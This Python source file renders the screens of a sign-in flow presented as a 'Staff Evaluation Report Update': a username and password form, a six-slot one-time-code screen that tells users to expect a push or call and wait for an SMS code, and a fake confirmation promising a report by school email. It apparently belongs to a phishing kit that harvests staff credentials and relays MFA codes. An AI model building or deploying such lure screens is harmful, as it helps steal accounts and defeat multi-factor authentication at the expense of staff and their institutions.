"""Screen templates and rendering

Turns the controller's state into the text shown for each stage.
"""

from typing import List

from signin.flow.constants import LOGIN, Stage
from signin.flow.controller import WorkflowController
from signin.flow.types import TransientStatus

TITLE = "STAFF EVALUATION REPORT UPDATE"

CREDENTIALS_SCREEN = """{title}

{heading}
{status}Username: {username}
Password: {password}"""

OTP_SCREEN = """{account_id}
{status}A VERIFICATION CALL/PUSH WOULD BE SENT SHORTLY
VERIFY AUTHENTICITY BY PRESSING # WHILE ON CALL

Enter OTP
TYPE CODE DISPLAYED ON AUTHENTICATOR APP OR CODE SENT VIA SMS
(Wait 1-3 minutes for verification code)
{otp_status}{slots}"""

COMPLETED_SCREEN = """✅ Thank you for your submission

Your response has been recorded, and your report will be sent to your school
email within 24-48 hours."""

SUBMITTING = "⏳ Please wait..."


def render_status(status: TransientStatus) -> str:
    if not status.text:
        return ""
    if status.is_error:
        return f"❌ Error: {status.text}\n"
    return f"✅ {status.text}\n"


def render_slots(slots, focused_index: int) -> str:
    """Draw the six slots, brackets marking the focused one"""
    cells: List[str] = []
    for index, digit in enumerate(slots):
        value = digit or "_"
        cells.append(f"[{value}]" if index == focused_index else f" {value} ")
    return "".join(cells)


def render(controller: WorkflowController) -> str:
    """Render the screen for the controller's current stage"""
    if controller.stage is Stage.COMPLETED:
        return COMPLETED_SCREEN

    if controller.stage is Stage.AWAITING_OTP and controller.otp_widget is not None:
        widget = controller.otp_widget
        screen = OTP_SCREEN.format(
            account_id=controller.identity.account_id if controller.identity else "",
            status=render_status(controller.status),
            otp_status=render_status(widget.status),
            slots=render_slots(widget.slots, widget.focused_index)
        )
        return f"{screen}\n{SUBMITTING}" if widget.is_submitting else screen

    draft = controller.draft
    screen = CREDENTIALS_SCREEN.format(
        title=TITLE,
        heading="Login" if draft.mode == LOGIN else "Register",
        status=render_status(controller.status),
        username=draft.username,
        password=draft.masked_password()
    )
    return f"{screen}\n{SUBMITTING}" if controller.is_submitting else screen
